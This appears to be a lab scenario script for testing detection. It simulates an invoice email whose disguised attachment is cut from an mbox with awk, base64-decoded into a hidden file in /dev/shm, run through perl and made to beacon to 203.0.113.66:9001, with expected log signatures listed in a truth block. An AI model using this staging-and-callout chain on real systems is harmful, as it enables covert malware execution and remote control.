# No mail program touches the message, and the file never has its own name.
title="Attachment cut out of the mbox with awk and run from shared memory"
what="The clerk cuts the encoded part out of /var/mail/clerk with awk, decodes it with base64 into a hidden file below /dev/shm and starts it by way of perl. It connects to 203.0.113.66 port 9001."
host=ws3.example.org user=clerk daemons="cron sshd" store=mbox audit_format=RAW audit_rules=audit-wide.rules

setup() { cc -O1 -o "$base/out/viewer" "$lab/lib/stand-ins/beacon.c"; }
act() {
  small_talk 2
  mail_in --from invoices@example.net --to clerk@example.org --subject "Invoice 2231" --attach "$base/out/viewer:application/octet-stream:Invoice_2231.pdf"
  wait_mail clerk 1
  ssh_as clerk <<'L'
cd /dev/shm
awk '/^Content-Disposition: attachment/{f=1} f&&/^$/{g=1;next} g&&/^--/{exit} g' /var/mail/clerk | base64 -d > .v
perl -e 'chmod 0700, ".v"; exec "./.v", "203.0.113.66", "9001"' &
%sleep 4
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message arrives'
  exec_step decode 'base64 -d' 'its part is decoded'
  exec_step execute '/\.v ' 'the file is run'
  net_step beacon '203.0.113.66:9001' 'and calls out'
}
